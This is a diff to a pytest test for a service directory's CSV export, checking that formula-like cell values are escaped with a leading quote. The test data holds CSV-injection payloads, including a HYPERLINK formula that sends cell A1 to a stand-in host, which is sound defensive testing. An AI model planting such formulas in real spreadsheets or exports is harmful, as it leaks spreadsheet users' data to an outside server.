@@ -5,6 +5,7 @@ import io
 
 import pytest
 
+from directory.models import Organization
 from services.models import Service
 from services.views import PRINT_LIMIT
 from tests.factories import OrganizationFactory
@@ -81,10 +82,17 @@ def test_csv_never_contains_professional_information(client, professional_client
         assert not labels & set(rows(response)[0])
 
 
-def test_csv_cells_cannot_run_as_formulas(client, humpolec):
-    outreach(humpolec, THU, name='=HYPERLINK("http://evil")')
-    [_header, row] = rows(client.get("/services/?format=csv"))
-    assert row[0] == '\'=HYPERLINK("http://evil")'
+@pytest.mark.parametrize(
+    "text", ['=HYPERLINK("http://x/?"&A1,"Klikni")', "+1", "-2+3", "@SUM(A1)", "\tx", "\rx"]
+)
+def test_csv_cells_cannot_run_as_formulas(client, humpolec, text):
+    service = outreach(humpolec, THU, name=text).service
+    Organization.objects.filter(pk=service.organization_id).update(name=text)
+    response = client.get("/services/?format=csv")
+    assert response["Content-Type"] == "text/csv; charset=utf-8"
+    [header, row] = rows(response)
+    record = dict(zip(header, row, strict=True))
+    assert (record["Service"], record["Organization"]) == ("'" + text, "'" + text)
 
 
 def test_csv_of_a_bad_search_is_a_400_with_the_reasons(client, db):
